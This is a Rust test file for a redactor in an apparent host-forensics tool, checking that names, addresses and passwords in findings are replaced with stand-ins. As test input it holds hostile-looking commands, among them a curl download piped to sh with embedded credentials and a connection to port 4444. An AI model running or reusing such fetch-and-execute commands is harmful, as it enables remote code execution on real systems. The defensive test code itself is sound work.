//! Tests of the stand-ins.

use super::*;
use calma_record::{Certainty, Evidence, RecordId, Severity, Source, StreamName, kinds};
use serde_json::json;

fn map(value: Value) -> Map<String, Value> {
    let Value::Object(map) = value else { panic!() };
    map
}

fn redactor() -> Redactor {
    let mut redactor = Redactor::new(BTreeMap::new());
    kinds::schemas().iter().for_each(|schema| redactor.learn_schema(schema));
    redactor.learn_host("root@web1.example.org");
    redactor.learn("account", &map(json!({"name": "giulia", "uid": 1000, "home": "/srv/people/giulia"})));
    redactor.learn("account", &map(json!({"name": "www-data", "uid": 33, "home": "/var/www"})));
    redactor
}

#[test]
fn what_says_who_or_where_is_replaced_everywhere() {
    let mut redactor = redactor();
    for (text, hidden) in [
        ("the key of \"giulia\" in /srv/people/giulia/.ssh/authorized_keys", "giulia"),
        ("/home/rossi/projects/acme-merger.xls was changed", "rossi"),
        ("/home/rossi/projects/acme-merger.xls was changed", "acme"),
        ("it talks to 203.0.113.9:4444.", "203.0.113"),
        ("it talks to [2001:db8::7]:443, often", "2001:db8"),
        ("runs curl http://u:pw@198.51.100.7/a|sh", "198.51.100.7"),
        ("runs curl http://u:pw@198.51.100.7/a|sh", "pw"),
        ("/var/spool/cron/crontabs/giulia", "giulia"),
        ("/etc/sudoers.d/90-giulia", "giulia"),
        ("comment giulia@laptop7", "laptop7"),
        ("web1.example.org is its name", "web1"),
        ("/var/backups/web1-2026.tar", "web1"),
        ("hardware 52:54:00:12:34:56", "52:54"),
        ("/root/customer-list.csv", "customer"),
    ] {
        let shown = redactor.prose(text);
        assert!(!shown.contains(hidden), "{shown}");
    }
}

#[test]
fn what_says_nothing_stays() {
    let mut redactor = redactor();
    for text in [
        "/var/www/html/uploads/a.php",
        "/root/.ssh/authorized_keys",
        "/usr/lib/systemd/system/user@.service",
        "user@1000.service",
        "127.0.0.1:22",
        "the program /tmp/.x/kworkerd is not there; ::1",
        "www-data may act as root (sudo)",
        "mode 0755, owner 0, group 0, changed 2026-11-24T02:57:21.668302425Z; no package owns it",
        "line 1 of /etc/cron.d/php-session says: true",
    ] {
        assert_eq!(redactor.prose(text), text);
    }
}

#[test]
fn one_original_has_one_stand_in_in_every_export() {
    let mut first = redactor();
    let (a, b) = (first.account("giulia"), first.address("192.0.2.1:22"));
    assert_eq!(first.prose("giulia at 192.0.2.1"), "account-1 at address-1");
    assert_eq!((a.as_str(), b.as_str()), ("account-1", "address-1:22"));
    let list = first.list();
    assert_eq!(list.get("account-1").map(String::as_str), Some("giulia"));
    let mut second = Redactor::new(list);
    assert_eq!(second.account("rossi"), "account-2");
    assert_eq!(second.account("giulia"), "account-1");
}

#[test]
fn rows_by_role_and_the_unknown_as_a_secret() {
    let mut redactor = redactor();
    let mut row = map(json!({
        "pid": 7, "arguments": ["mysqldump", "-pS3cret!", "db"], "program": "/usr/bin/mysqldump",
        "directory": "/home/rossi", "new_column": "S3cret!",
    }));
    redactor.row("process", &mut row);
    let text = Value::Object(row.clone()).to_string();
    assert!(!text.contains("S3cret") && !text.contains("rossi"), "{text}");
    assert_eq!(row["program"], "/usr/bin/mysqldump");
    assert_eq!(row["pid"], 7);
    let mut unknown = map(json!({"a": "giulia", "b": 7}));
    redactor.row("kind-of-tomorrow", &mut unknown);
    assert_eq!(Value::Object(unknown).to_string().matches("secret-").count(), 2);
}

#[test]
fn a_finding_quotes_no_secret_of_its_rows() {
    let mut redactor = redactor();
    let arguments = json!({"arguments": ["curl", "-u", "admin:hunter2", "http://198.51.100.7/a"]});
    let schema = kinds::schemas().into_iter().find(|schema| schema.kind == "process").unwrap();
    let secrets = secrets(&schema, &map(arguments));
    let source = Source::proc("/proc/7/stat");
    let record = RecordId { stream: StreamName("collection-1".to_owned()), seq: 1 };
    let mut finding = Finding {
        key: "k".to_owned(),
        detector: "d",
        severity: Severity::High,
        certainty: Certainty::Likely,
        attack: Vec::new(),
        title: "It runs curl -u admin:hunter2 http://198.51.100.7/a".to_owned(),
        facts: vec![
            "says: curl -u admin:hun …".to_owned(),
            "the word admin:hunter2".to_owned(),
            "/opt/tool is hidden".to_owned(),
        ],
        why: String::new(),
        innocent: String::new(),
        next: "ask giulia".to_owned(),
        subjects: vec![Subject::Path("/home/rossi/my own file".into()), Subject::Account("giulia".into())],
        evidence: vec![Evidence { record, source, shows: "in /home/rossi/my own file".to_owned() }],
        story: 0,
    };
    let secrets: Vec<String> = secrets.into_iter().chain(["/opt/tool --password=x1".to_owned()]).collect();
    redactor.finding(&mut finding, &secrets);
    assert_eq!(finding.facts[2], "/opt/tool is hidden");
    let text = format!("{finding:?}");
    for hidden in ["hun", "198.51", "rossi", "own file", "giulia"] {
        assert!(!text.contains(hidden), "{hidden}: {text}");
    }
}
